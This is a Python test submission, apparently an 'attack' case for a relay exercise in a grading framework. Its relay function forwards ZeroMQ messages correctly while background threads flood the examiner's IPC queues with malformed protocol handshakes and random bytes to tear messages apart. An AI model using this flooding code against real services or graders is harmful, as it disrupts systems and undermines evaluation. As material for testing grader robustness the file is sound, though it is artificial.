# /// attack
# kind = "harming"
# exercise = "ch1/relay"
# verdicts = ["timeout", "passed", "wrong", "error"]
# reason = "Comes and goes at the examiner's queues a thousand times, half through the handshake, and leaves messages torn."
# ///
import os
import socket
import threading
import time

import zmq

GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)


def ready(kind):
    body = b"\x05READY\x0bSocket-Type" + len(kind).to_bytes(4, "big") + kind
    return bytes([4, len(body)]) + body


PARTS = [
    GREETING + ready(b"PULL"),
    GREETING + ready(b"PUSH") + b"\x01\x03one",
    GREETING + ready(b"PUSH") + b"\x02\xff\xff\xff\xff\xff\xff\xff\xff",
    GREETING + ready(b"SUB") + b"\x00\x01\x01",
    GREETING[:20],
    GREETING + b"\x04\xff" + os.urandom(200),
    os.urandom(300),
]


def storm(addresses):
    turn = 0
    while True:
        turn += 1
        with socket.socket(socket.AF_UNIX) as caller:
            try:
                caller.connect(addresses[turn % 2].removeprefix("ipc://"))
                caller.sendall(PARTS[turn % len(PARTS)])
            except OSError:
                pass
            time.sleep(0.0005)


def relay(source, target, count):
    for _ in range(3):
        threading.Thread(target=storm, args=([source, target],), daemon=True).start()
    time.sleep(0.2)
    context = zmq.Context()
    pull, push = context.socket(zmq.PULL), context.socket(zmq.PUSH)
    pull.connect(source)
    push.connect(target)
    for _ in range(count):
        push.send(pull.recv())
    return count
